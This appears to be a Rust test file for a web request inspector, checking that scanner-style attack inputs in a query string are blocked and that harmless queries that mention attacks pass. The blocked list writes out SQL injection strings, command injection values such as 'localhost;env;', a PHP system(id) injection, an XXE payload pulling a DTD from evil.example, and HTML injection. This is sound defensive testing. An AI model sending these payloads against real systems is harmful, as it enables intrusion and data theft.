//! What attack tools got through when it was tried, in words of our own (`tests/tools`): all of it blocked, and what
//! looks like it in ordinary requests let through.

use hangu_inspect::inspector::THRESHOLD;
use hangu_inspect::{Head, Inspector, Settings, Verdict};

fn asked(value: &[u8]) -> Verdict {
    let encoded: String = value
        .iter()
        .map(|b| match b {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'.' | b'-' | b'_' => {
                char::from(*b).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect();
    let query = format!("name={encoded}");
    Inspector::new(Settings::default()).head(&Head {
        method: "GET",
        target_path: b"/page",
        query: Some(query.as_bytes()),
        headers: &[],
    })
}

#[test]
fn disguises_of_attack_tools_are_blocked() {
    for value in [
        &b"-1')--aQxZkP\nor--LmWqTy\n7=7--bNvCxS\nand--PoIuYt\n('ab'--GhJkLz\nlike--MnBvCx\n'ab"[..],
        b"1\xbf'\"(",
        b"\";d=new Date();do{c=new Date();}while(c-d<5000);//",
        b"'.system(id)//",
        b"case sin(1) when 2 then 2 end",
        b"1 union select a,b from c -- please see the page that you were looking for, it is there",
        b"1 union select a,b from c /* please see the page that you were looking for */",
        b"please see the page that you were' union select a,b from c--",
        b"a;id # please see the page that you were looking for, it is there for you",
        b"localhost;env;",
        b"localhost\nenv;",
        b";read;",
        b"&set&",
        b"/proc/meminfo",
        b"<?xml version=\"1.0\"?>\n<!DOCTYPE a [\n<!ENTITY % b SYSTEM \"https://evil.example/c.dtd\">\n%b; ]>\n<a>d e f</a>",
        b"<iframe src=\"http://evil.example/\" width=\"800\" height=\"800\"></iframe>",
        b"\" type=image src=null onerror=go \"",
    ] {
        let verdict = asked(value);
        let text = String::from_utf8_lossy(value);
        assert!(verdict.blocks(THRESHOLD), "{text}: {verdict:?}");
    }
}

#[test]
fn searches_that_speak_of_attacks_pass() {
    for value in [
        "how does union select 1,2,3 from information_schema.tables -- work, and why is it blocked?",
        "演示 Log4j 的 ${jndi:ldap://…} 漏洞，讲师会讲解如何防护",
        "日志里出现 <script>alert(1)</script> 是什么意思，怎么处理？",
        "dev;test;prod;",
        "&copy;",
        "&sort;",
        "see the notes -- please\nthanks -- li\nbye",
        "café's menu",
    ] {
        let verdict = asked(value.as_bytes());
        assert!(!verdict.blocks(THRESHOLD), "{value}: {verdict:?}");
    }
}
